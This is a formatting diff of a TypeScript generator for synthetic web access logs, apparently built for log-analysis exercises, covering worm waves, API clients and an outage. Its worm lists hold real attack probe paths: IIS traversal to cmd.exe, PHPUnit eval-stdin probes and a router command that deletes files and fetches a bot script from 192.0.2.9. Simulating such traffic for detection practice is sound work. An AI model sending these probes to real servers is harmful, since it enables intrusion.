@@ -15,22 +15,43 @@ const DAY = 24 * HOUR;
 /** Probe sequences of worms that still roam: each wave sends one of them, in order. */
 const WORM_SEQUENCES: string[][] = [
   [
-    '/scripts/root.exe?/c+dir', '/MSADC/root.exe?/c+dir', '/c/winnt/system32/cmd.exe?/c+dir', '/d/winnt/system32/cmd.exe?/c+dir',
-    '/scripts/..%5c../winnt/system32/cmd.exe?/c+dir', '/_vti_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
-    '/_mem_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir', '/msadc/..%5c../..%5c../..%5c/..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir',
-    '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir', '/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir',
-    '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir', '/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir',
-    '/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir', '/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir',
-    '/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir', '/scripts/..%252f../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/root.exe?/c+dir',
+    '/MSADC/root.exe?/c+dir',
+    '/c/winnt/system32/cmd.exe?/c+dir',
+    '/d/winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%5c../winnt/system32/cmd.exe?/c+dir',
+    '/_vti_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
+    '/_mem_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
+    '/msadc/..%5c../..%5c../..%5c/..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir',
+    '/scripts/..%252f../winnt/system32/cmd.exe?/c+dir',
   ],
   [
-    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/vendor/phpunit/src/Util/PHP/eval-stdin.php', '/phpunit/src/Util/PHP/eval-stdin.php',
-    '/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
-    '/www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/ws/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
-    '/yii/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/zend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
-    '/cms/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/vendor/phpunit/src/Util/PHP/eval-stdin.php',
+    '/phpunit/src/Util/PHP/eval-stdin.php',
+    '/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/ws/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/yii/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/zend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/cms/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
   ],
-  ['/boaform/admin/formLogin?username=admin&psd=admin', '/HNAP1/', '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/bins.sh', '/cgi-bin/luci/;stok=/locale', '/GponForm/diag_Form?images/'],
+  [
+    '/boaform/admin/formLogin?username=admin&psd=admin',
+    '/HNAP1/',
+    '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/bins.sh',
+    '/cgi-bin/luci/;stok=/locale',
+    '/GponForm/diag_Form?images/',
+  ],
 ];
 
 /**
@@ -40,7 +61,9 @@ const WORM_SEQUENCES: string[][] = [
 export function wormWave(ctx: PlantContext, o: { bots: number; days: number; sequence: number; hit: boolean }): InternetTruth[] {
   const { rec, rng, ips, start } = ctx;
   const seq = WORM_SEQUENCES[o.sequence % WORM_SEQUENCES.length]!;
-  const ua = rng.chance(0.5) ? '-' : rng.pick(['Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)', 'Mozilla/5.0 zgrab/0.x', 'python-requests/2.6.0']);
+  const ua = rng.chance(0.5)
+    ? '-'
+    : rng.pick(['Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)', 'Mozilla/5.0 zgrab/0.x', 'python-requests/2.6.0']);
   const out: InternetTruth[] = [];
   for (let b = 0; b < o.bots; b++) {
     const ip = ips.public();
@@ -59,7 +82,17 @@ export function wormWave(ctx: PlantContext, o: { bots: number; days: number; seq
       });
     }
     const hit = o.hit && b === 0;
-    out.push(truthOf(hit ? 'exploit_hit' : 'worm', 'scanner', ip, first, last, `worm wave ${o.sequence + 1}${hit ? ': answered 200' : ''}`, `worm-${o.sequence + 1}`));
+    out.push(
+      truthOf(
+        hit ? 'exploit_hit' : 'worm',
+        'scanner',
+        ip,
+        first,
+        last,
+        `worm wave ${o.sequence + 1}${hit ? ': answered 200' : ''}`,
+        `worm-${o.sequence + 1}`,
+      ),
+    );
   }
   return out;
 }
@@ -75,7 +108,8 @@ export function apiClients(ctx: PlantContext, o: { clients: number; days: number
   const clients = Array.from({ length: o.clients }, () => ips.public());
   const agents = clients.map(() => `ShopApp/3.${rng.int(0, 9)} (${rng.pick(['iOS 17', 'Android 14', 'Android 13'])})`);
   clients.forEach((ip, i) => {
-    for (let t = start + rng.range(0, 6 * HOUR); t < start + o.days * DAY; t += rng.exp(3 * HOUR)) pollOnce(rec, rng, ip, agents[i]!, t, 200);
+    for (let t = start + rng.range(0, 6 * HOUR); t < start + o.days * DAY; t += rng.exp(3 * HOUR))
+      pollOnce(rec, rng, ip, agents[i]!, t, 200);
   });
   return { ips: clients, agents };
 }
@@ -83,7 +117,14 @@ export function apiClients(ctx: PlantContext, o: { clients: number; days: number
 function pollOnce(rec: ScenarioRecorder, rng: Prng, ip: string, ua: string, t: number, status: number): void {
   const resources = ['/api/v1/orders', '/api/v1/cart', `/api/v1/items/${rng.int(1000, 1080)}`, '/api/v1/profile'];
   for (let k = rng.int(1, 3); k > 0; k--) {
-    rec.access(t, { ip, method: 'GET', path: rng.pick(resources), status, bytes: status === 200 ? rng.int(300, 4000) : 166, userAgent: ua });
+    rec.access(t, {
+      ip,
+      method: 'GET',
+      path: rng.pick(resources),
+      status,
+      bytes: status === 200 ? rng.int(300, 4000) : 166,
+      userAgent: ua,
+    });
     t += rng.int(200, 2000);
   }
 }
@@ -98,9 +139,27 @@ export function outage(ctx: PlantContext, clients: ApiClients, o: { minutes: num
   );
   for (const [ip, ua] of hit) {
     // Clients retry while it fails.
-    for (let t = start + rng.range(0, 2 * MIN); t < end; t += rng.range(30_000, 3 * MIN)) pollOnce(rec, rng, ip, ua, t, rng.pick([502, 502, 503, 504]));
+    for (let t = start + rng.range(0, 2 * MIN); t < end; t += rng.range(30_000, 3 * MIN))
+      pollOnce(rec, rng, ip, ua, t, rng.pick([502, 502, 503, 504]));
   }
   // A few visitors still get through to other paths meanwhile.
-  for (let k = 0; k < 20; k++) rec.access(start + rng.range(0, o.minutes * MIN), { ip: rng.pick(clients.ips), path: '/', status: 200, userAgent: rng.pick(BROWSER_AGENTS) });
-  return [truthOf('outage', 'app_error', '/api/v1/*', start, end, `API outage for ${o.minutes} minutes, ${hit.length} clients`, 'outage', 'target')];
+  for (let k = 0; k < 20; k++)
+    rec.access(start + rng.range(0, o.minutes * MIN), {
+      ip: rng.pick(clients.ips),
+      path: '/',
+      status: 200,
+      userAgent: rng.pick(BROWSER_AGENTS),
+    });
+  return [
+    truthOf(
+      'outage',
+      'app_error',
+      '/api/v1/*',
+      start,
+      end,
+      `API outage for ${o.minutes} minutes, ${hit.length} clients`,
+      'outage',
+      'target',
+    ),
+  ];
 }
